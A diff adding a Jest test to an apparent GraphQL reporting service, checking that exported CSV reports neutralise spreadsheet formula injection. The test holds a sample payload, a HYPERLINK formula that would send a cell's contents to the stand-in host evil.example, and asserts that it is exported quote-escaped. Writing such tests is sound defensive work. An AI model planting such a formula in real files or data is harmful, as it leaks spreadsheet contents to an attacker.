@@ -114,4 +114,31 @@ describe.each([
     const mine = await t.gql(`{ myReports { id status } }`);
     expect(mine.data!.myReports[0]).toEqual({ id: asked.data!.requestReport.id, status: 'DONE' });
   });
+
+  it('exports a description a spreadsheet would run as a formula as plain text (a quote before it)', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const logged = await t.gql(
+      `mutation($input: LogAssistanceRequestInput!) { logAssistanceRequest(input: $input) { id } }`,
+      {
+        input: {
+          stateIso3: 'KEN',
+          kind: 'TRAINING',
+          topics: ['cybercrime'],
+          priorityAreaCode: 'B',
+          receivedOn: '2009-02-01',
+          channel: 'field-office',
+          description: formula,
+        },
+      },
+    );
+    expect(logged.errors).toBeUndefined();
+    const asked = await t.gql(`mutation { requestReport(kind: ASSISTANCE_REQUESTS) { id } }`);
+    const { report } = await finished(asked.data!.requestReport.id, 'secretariat');
+    expect(report.status).toBe('DONE');
+    const token = await t.login('secretariat@demo.local');
+    const file = await request(t.app.getHttpServer()).get(report.downloadUrl).set('authorization', `Bearer ${token}`);
+    expect(file.status).toBe(200);
+    expect(file.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(file.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
 });
